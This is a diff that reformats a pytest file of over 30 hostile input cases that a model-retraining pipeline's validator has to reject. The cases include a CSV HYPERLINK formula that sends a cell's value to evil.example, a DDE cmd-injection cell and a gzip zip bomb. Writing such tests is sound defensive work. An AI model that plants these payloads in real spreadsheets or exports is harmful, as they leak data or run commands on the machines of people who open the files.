@@ -70,20 +70,28 @@ CASES: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
         "mixes numbers and names",
     ),
     # And more.
-    "formula_injection.csv": (good_csv(20) + '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",positive\n',
-                              "not_match_regex"),
+    "formula_injection.csv": (
+        good_csv(20) + '"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",positive\n',
+        "not_match_regex",
+    ),
     "dde_injection.csv": (good_csv(20) + "\"-2+3+cmd|' /C calc'!A0\",negative\n", "not_match_regex"),
     "nul_bytes.csv": (good_csv(200) + "bad\x00film,negative\n", "NUL"),
-    "zip_bomb.csv.gz": (gzip.compress(b"text,label\n" + b"a" * (3 * 2**20) + b",positive\n", 9),
-                        "decompresses to more than the limit"),
+    "zip_bomb.csv.gz": (
+        gzip.compress(b"text,label\n" + b"a" * (3 * 2**20) + b",positive\n", 9),
+        "decompresses to more than the limit",
+    ),
     "truncated.csv.gz": (gzip.compress(good_csv(200).encode())[:300], "not a readable gzip file"),
     "oversized.csv": ("text,label\n" + ("a long review of a film,positive\n" * 70_000), "over the limit"),
-    "mixed_line_endings.csv": ("text,label\r\nfine film,positive\r\ndull film,negative\nnice film,positive\r\n",
-                               "mixed line endings"),
+    "mixed_line_endings.csv": (
+        "text,label\r\nfine film,positive\r\ndull film,negative\nnice film,positive\r\n",
+        "mixed line endings",
+    ),
     "bom_in_middle.csv": (good_csv(5) + "\ufefftext,label\nfine film,positive\n", "byte-order mark"),
     "float_labels.csv": ("text,label\nfine film,0.5\ndull film,1.5\n", "whole numbers"),
-    "bool_labels.jsonl": ('{"text": "fine film", "label": true}\n{"text": "dull film", "label": false}\n',
-                          "boolean labels"),
+    "bool_labels.jsonl": (
+        '{"text": "fine film", "label": true}\n{"text": "dull film", "label": false}\n',
+        "boolean labels",
+    ),
     "one_class.csv": (csv_text(GOOD[GOOD["label"] == "positive"].head(50)), "unique_value_count"),
     "duplicates_90pct.csv": (
         csv_text(pd.concat([GOOD.head(2)] * 45 + [GOOD.iloc[2:12]], ignore_index=True)),
@@ -91,8 +99,14 @@ CASES: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     ),
     # Valid on its own; with it, the training split's class ratio passes validate.max_class_ratio.
     "imbalance.csv": (
-        csv_text(pd.DataFrame({"text": [f"the film number {i} was great" for i in range(12000)] + ["a dull film"],
-                               "label": ["positive"] * 12000 + ["negative"]})),
+        csv_text(
+            pd.DataFrame(
+                {
+                    "text": [f"the film number {i} was great" for i in range(12000)] + ["a dull film"],
+                    "label": ["positive"] * 12000 + ["negative"],
+                }
+            )
+        ),
         "cleaned data would fail its checks",
     ),
     "wrong_schema.parquet": (parquet_bytes(pd.DataFrame({"review": ["fine"], "stars": [5]})), "missing column(s)"),
@@ -100,10 +114,14 @@ CASES: dict[str, tuple[str | bytes | Callable[[Path], None], str]] = {
     "corrupt.parquet": (parquet_bytes(GOOD.head(50))[:200], "cannot read Parquet"),
     "broken_line.jsonl": ('{"text": "fine film", "label": "positive"}\n{"text": "dull\n', "line 2 is not valid JSON"),
     "array_lines.jsonl": ('["fine film", "positive"]\n', "not a JSON object"),
-    "nested_text.jsonl": ('{"text": {"a": {"b": "deep"}}, "label": "positive"}\n{"text": "ok", "label": "negative"}\n',
-                          "non-text values"),
-    "null_label.jsonl": ('{"text": "fine film", "label": null}\n{"text": "dull film", "label": "negative"}\n',
-                         "1 of 2 rows have an empty text or label (lines 1)"),
+    "nested_text.jsonl": (
+        '{"text": {"a": {"b": "deep"}}, "label": "positive"}\n{"text": "ok", "label": "negative"}\n',
+        "non-text values",
+    ),
+    "null_label.jsonl": (
+        '{"text": "fine film", "label": null}\n{"text": "dull film", "label": "negative"}\n',
+        "1 of 2 rows have an empty text or label (lines 1)",
+    ),
     "blank_texts.csv": ('text,label\n"   ",positive\n"\t",negative\nfine film,positive\n', "lines 2, 3"),
     "unclosed_quote.csv": ('text,label\n"fine film,positive\ndull film,negative\n', "malformed CSV"),
     "utf16.csv": ("text,label\nfine film,positive\ndull film,negative\n".encode("utf-16"), "UTF-16"),
@@ -133,8 +151,9 @@ def test_there_are_at_least_30_cases():
 
 
 @pytest.mark.parametrize("name", sorted(CASES))
-def test_hostile_file_fails_the_flow_and_changes_nothing(name, champion_template, prefect_api, retrain_flow,
-                                                         monkeypatch):
+def test_hostile_file_fails_the_flow_and_changes_nothing(
+    name, champion_template, prefect_api, retrain_flow, monkeypatch
+):
     root = champion_template
     monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
     landing = root / "landing"
